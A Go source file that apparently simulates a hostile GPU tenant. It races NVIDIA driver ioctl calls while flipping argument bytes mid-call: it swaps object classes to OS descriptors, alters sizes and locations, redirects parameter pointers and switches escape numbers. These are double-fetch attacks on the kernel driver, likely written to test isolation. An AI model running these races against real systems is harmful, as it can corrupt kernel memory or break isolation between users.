package hostile

import (
	"errors"

	"golang.org/x/sys/unix"

	"github.com/penstock-gpu/penstock/internal/abi/nvidia"
	"github.com/penstock-gpu/penstock/internal/sys"
)

func raceDescriptor(t *tenant) error {
	return t.fullRace(nvidia.EscAlloc, nvidia.SizeAlloc64, func(c *client, r *racing) error {
		return r.classes(c, nvidia.ClassOSDescriptor)
	})
}

func (t *tenant) fullRace(nr uint8, size int, race func(c *client, r *racing) error) error {
	c, err := t.client()
	if err != nil {
		return err
	}
	c.fill(handleFirst)
	r, err := t.newRace(c.fd, nr, size, 4096)
	if err != nil {
		return err
	}
	return errors.Join(race(c, r), t.hold("after the race"))
}

func raceDescriptorHandle(t *tenant) error {
	return t.fullRace(nvidia.EscAlloc, nvidia.SizeAlloc64, func(c *client, r *racing) error {
		stop := flip(
			func() { r.arg[12], r.arg[11] = byte(nvidia.ClassOSDescriptor), 0x5c },
			func() { r.arg[11], r.arg[12] = 0x6c, byte(nvidia.ClassMemoryLocalUser) })
		defer stop()
		return r.run(func(i uint32) {
			r.memoryCall(c, handleFirst+0x100000+nvidia.Handle(i), nvidia.ClassOSDescriptor, raceBytes)
		})
	})
}

func raceDescriptorHeap(t *tenant) error {
	return t.fullRace(nvidia.EscVidHeap, nvidia.SizeVidHeap, func(c *client, r *racing) error {
		stop := flip(func() { r.arg[8] = byte(nvidia.HeapAllocOSDesc) }, func() { r.arg[8] = byte(nvidia.HeapAllocSize) })
		defer stop()
		return r.run(func(i uint32) {
			clear(r.arg)
			v := nvidia.VidHeap{Root: c.root, Parent: c.device, Function: nvidia.HeapAllocSize, Memory: handleFirst + 0x100000 + nvidia.Handle(i), Size: raceBytes}
			_ = v.Put(r.arg) // it fits
			_ = nvidia.PutU32At(r.arg, 40, uint32(v.Memory))
		})
	})
}

func raceDescriptorMemory(t *tenant) error {
	return t.fullRace(nvidia.EscAllocMemory, nvidia.SizeAllocMemory, func(c *client, r *racing) error {
		stop := flip(func() { r.arg[12] = byte(nvidia.ClassOSDescriptor) }, func() { r.arg[12] = byte(nvidia.ClassMemoryLocalUser) })
		defer stop()
		return r.run(func(i uint32) {
			m := nvidia.AllocMemory{Root: c.root, Parent: c.device, New: handleFirst + 0x100000 + nvidia.Handle(i), Class: nvidia.ClassOSDescriptor, Limit: raceBytes - 1, FD: -1}
			_ = m.Put(r.arg) // it fits
		})
	})
}

func raceDescriptorGroup(t *tenant) error {
	c, err := t.client()
	if err != nil {
		return err
	}
	r, err := t.newRace(c.fd, nvidia.EscAlloc, nvidia.SizeAlloc64, 64)
	if err != nil {
		return err
	}
	copy(r.params, groupParams(nvidia.EngineGR0))
	var last uint32
	stop := flip(
		func() { r.arg[12], r.arg[13] = byte(nvidia.ClassOSDescriptor), 0 },
		func() { r.arg[13], r.arg[12] = 0xa0, 0x6c })
	err = r.run(func(i uint32) {
		last = i
		a := nvidia.Alloc{Root: c.root, Parent: c.device, New: handleFirst + nvidia.Handle(i%64), Class: nvidia.ClassOSDescriptor, Params: r.at, ParamsSize: nvidia.SizeGroupParams}
		_ = a.Put(r.arg) // it fits
	})
	stop()
	if err != nil {
		return err
	}
	for i := range nvidia.Handle(min(last, 64)) {
		for _, e := range []nvidia.EngineType{nvidia.EngineGR0, nvidia.EngineNVDEC0} {
			ch, err := c.channel(handleFirst+i, e, 0)
			if err == nil {
				_ = c.busy(ch)
			}
		}
	}
	return errors.Join(t.hold("after the race"), t.measure(measureFor))
}

func raceSize(t *tenant) error {
	c, err := t.client()
	if err != nil {
		return err
	}
	r, err := t.newRace(c.fd, nvidia.EscAlloc, nvidia.SizeAlloc64, nvidia.SizeMemoryParams)
	if err != nil {
		return err
	}
	stop := flip(func() { r.params[71], r.params[67] = 0, 0 }, func() { r.params[67] = 0x80 })
	err = r.run(func(i uint32) {
		r.memoryCall(c, handleFirst+nvidia.Handle(i), nvidia.ClassMemoryLocalUser, 64<<10)
	})
	stop()
	return errors.Join(err, t.hold("after the race"))
}

func raceParams(t *tenant) error {
	c, err := t.client()
	if err != nil {
		return err
	}
	r, err := t.newRace(c.fd, nvidia.EscAlloc, nvidia.SizeAlloc64, 1024)
	if err != nil {
		return err
	}
	base := byte(r.at)
	stop := flip(func() { r.arg[16] = base }, func() { r.arg[16] = base + 128 })
	err = r.run(func(i uint32) {
		copy(r.params[128:], memoryParams(nvidia.MemoryParams{Size: 2 * gib}))
		r.memoryCall(c, handleFirst+nvidia.Handle(i), nvidia.ClassMemoryLocalUser, 64<<10)
	})
	stop()
	return errors.Join(err, t.hold("after the race"))
}

func raceLocation(t *tenant) error {
	return t.fullRace(nvidia.EscAlloc, nvidia.SizeAlloc64, func(c *client, r *racing) error {
		stop := flip(func() { r.params[27] = 1 << 1 }, func() { r.params[27] = 0 })
		defer stop()
		return r.run(func(i uint32) {
			r.memoryCall(c, handleFirst+0x100000+nvidia.Handle(i), nvidia.ClassMemoryLocalUser, raceBytes)
		})
	})
}

func raceControl(t *tenant) error {
	c, err := t.client()
	if err != nil {
		return err
	}
	r, err := t.newRace(c.fd, nvidia.EscControl, nvidia.SizeControl, 2048)
	if err != nil {
		return err
	}
	_, b, err := t.freezeCall(c)
	if err != nil {
		return err
	}
	good, err := nvidia.DecodeControl(b)
	if err != nil {
		return err
	}
	if err := sys.ReadMemory(unix.Getpid(), good.Params, r.params[:536]); err != nil {
		return err
	}
	good.Params = r.at
	bad, tail := r.params[:536:536], []byte{0x0b, 0x11}
	saved := append([]byte(nil), bad...)
	measured := make(chan error, 1)
	go func() { measured <- t.measure(t.Race) }()
	stop := flip(func() { r.arg[8], r.arg[9] = 0x0c, 0x01 }, func() { r.arg[8], r.arg[9] = tail[0], tail[1] })
	err = r.run(func(i uint32) {
		copy(bad, saved)
		k := good
		if i%2 == 0 {
			k.Cmd = nvidia.CtrlFBGetInfoV2
			k.ParamsSize = 1028
		}
		_ = k.Put(r.arg) // it fits
	})
	stop()
	return errors.Join(err, <-measured)
}

func raceWrapper(t *tenant) error {
	c, err := t.client()
	if err != nil {
		return err
	}
	c.fill(handleFirst)
	r, err := t.newRace(c.fd, nvidia.EscXfer, nvidia.SizeXfer, 1024)
	if err != nil {
		return err
	}
	at, _, err := t.allocCall(c, handleFirst+0x10000)
	if err != nil {
		return err
	}
	freeze, _, err := t.freezeCall(c)
	if err != nil {
		return err
	}
	stop := flip(
		func() { _ = nvidia.PutU32At(r.arg, 0, uint32(nvidia.EscSysParams)); _ = nvidia.PutU32At(r.arg, 4, 8) },
		func() {
			_ = nvidia.PutU64At(r.arg, 8, at)
			_ = nvidia.PutU32At(r.arg, 0, uint32(nvidia.EscAlloc))
			_ = nvidia.PutU32At(r.arg, 4, nvidia.SizeAlloc64)
			spin(40)
			_ = nvidia.PutU64At(r.arg, 8, freeze)
			_ = nvidia.PutU32At(r.arg, 0, uint32(nvidia.EscControl))
			_ = nvidia.PutU32At(r.arg, 4, nvidia.SizeControl)
		})
	err = r.run(func(uint32) { _ = nvidia.Xfer{Cmd: uint32(nvidia.EscSysParams), Size: 8, Ptr: r.at}.Put(r.arg) }) // it fits
	stop()
	return errors.Join(err, t.hold("after the race"), t.measure(measureFor))
}
